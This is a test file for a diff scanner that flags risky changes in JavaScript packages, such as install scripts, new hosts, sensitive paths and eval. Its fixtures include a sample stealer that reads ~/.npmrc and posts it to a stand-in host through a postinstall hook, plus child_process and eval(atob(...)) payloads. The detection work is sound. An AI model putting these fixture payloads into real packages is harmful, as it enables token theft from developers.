import { describe, expect, it } from 'vitest';
import { analyzeSide } from './analyze-side.js';
import { DEFAULT_HUNK_LIMITS, riskyHunks } from './hunks.js';

const side = (entries: Record<string, string | Uint8Array>) =>
  analyzeSide(
    new Map(
      Object.entries(entries).map(([path, content]) => [
        path,
        { bytes: typeof content === 'string' ? new TextEncoder().encode(content) : content },
      ]),
    ),
  );

const LIB = Array.from({ length: 30 }, (_, i) => `function f${i}(a) { return a + ${i}; }`);
const manifest = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'p', version: '1.0.0', ...extra }, null, 2);

describe('riskyHunks', () => {
  it('keeps only the hunk whose added lines are risky, with context and reasons', () => {
    const from = side({ 'package.json': manifest(), 'index.js': LIB.join('\n') });
    const changed = [...LIB];
    changed[3] = 'function f3(a) { return a * 3; }';
    changed[20] = "function f20(a) { return require('child_process').execSync('id ' + a); }";
    const to = side({ 'package.json': manifest(), 'index.js': changed.join('\n') });
    const { hunks, omitted } = riskyHunks(from, to, ['index.js']);
    expect(omitted).toBe(0);
    expect(hunks).toHaveLength(1);
    const [hunk] = hunks;
    expect(hunk).toMatchObject({ file: 'index.js', fromLine: 18, toLine: 24 });
    expect(hunk!.lines).toContain(`-${LIB[20]}`);
    expect(hunk!.lines).toContain(`+${changed[20]}`);
    expect(hunk!.lines.filter((l) => l.startsWith(' '))).toHaveLength(6);
    expect(hunk!.reasons).toEqual(expect.arrayContaining([expect.stringMatching(/^child process: /)]));
  });

  it('shows an added file around its risky lines only, and install scripts in package.json', () => {
    const from = side({ 'package.json': manifest(), 'index.js': LIB.join('\n') });
    const stealer = [
      ...LIB.slice(0, 10),
      "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');",
      "require('https').request('https://collector.invalid/x', { method: 'POST' }).end(t);",
      ...LIB.slice(10),
    ];
    const to = side({
      'package.json': manifest({ scripts: { postinstall: 'node s.js' } }),
      'index.js': LIB.join('\n'),
      's.js': stealer.join('\n'),
    });
    const { hunks } = riskyHunks(from, to, ['package.json', 's.js'], new Set(['collector.invalid']));
    expect(hunks.map((h) => h.file)).toEqual(['package.json', 's.js']);
    expect(hunks[0]!.reasons).toContain('install script: postinstall');
    expect(hunks[0]!.lines).toContain('+    "postinstall": "node s.js"');
    const code = hunks[1]!;
    expect(code.fromLine).toBe(8);
    expect(code.toLine).toBe(15);
    expect(code.lines.every((l) => l.startsWith('+'))).toBe(true);
    expect(code.reasons).toEqual(
      expect.arrayContaining(['new host: collector.invalid', expect.stringMatching(/^sensitive path: /)]),
    );
  });

  it('cuts a minified line to a window around the risky column', () => {
    const pad = 'var a=1;'.repeat(400);
    const from = side({ 'm.js': `${pad}\n` });
    const to = side({ 'm.js': `${pad}eval(atob("aGk="));${pad}\n` });
    const { hunks } = riskyHunks(from, to, ['m.js']);
    expect(hunks).toHaveLength(1);
    const added = hunks[0]!.lines.filter((l) => l.startsWith('+'));
    expect(added).toHaveLength(1);
    expect(added[0]).toMatch(/^\+….*eval\(atob.*…$/);
    expect(added[0]!.length).toBeLessThanOrEqual(DEFAULT_HUNK_LIMITS.maxLineLength + 3);
    const removed = hunks[0]!.lines.filter((l) => l.startsWith('-'));
    expect(removed[0]!.length).toBeLessThanOrEqual(DEFAULT_HUNK_LIMITS.maxLineLength + 3);
  });

  it('skips binary files and unchanged risky lines, and bounds the count', () => {
    const risky = Array.from({ length: 40 }, (_, i) => `eval(x${i});\n${LIB.slice(0, 10).join('\n')}`).join(
      '\n',
    );
    const from = side({ 'a.js': risky, 'b.bin': new Uint8Array([0, 1, 2]) });
    const to = side({ 'a.js': `${risky}\n// tail`, 'b.bin': new Uint8Array([0, 1, 3]) });
    expect(riskyHunks(from, to, ['a.js', 'b.bin']).hunks).toEqual([]);
    const fresh = riskyHunks(side({}), to, ['a.js']);
    expect(fresh.hunks).toHaveLength(DEFAULT_HUNK_LIMITS.maxHunks);
    expect(fresh.omitted).toBe(20);
  });

  it('falls back to line sets when the diff is over its bounds', () => {
    const from = side({ 'x.js': LIB.join('\n') });
    const to = side({ 'x.js': [...LIB.slice().reverse(), 'eval(code);'].join('\n') });
    const limits = { ...DEFAULT_HUNK_LIMITS, maxEditLength: 2 };
    const { hunks } = riskyHunks(from, to, ['x.js'], new Set(), limits);
    expect(hunks).toHaveLength(1);
    expect(hunks[0]!.lines.filter((l) => l.startsWith('+'))).toEqual(['+eval(code);']);
  });
});
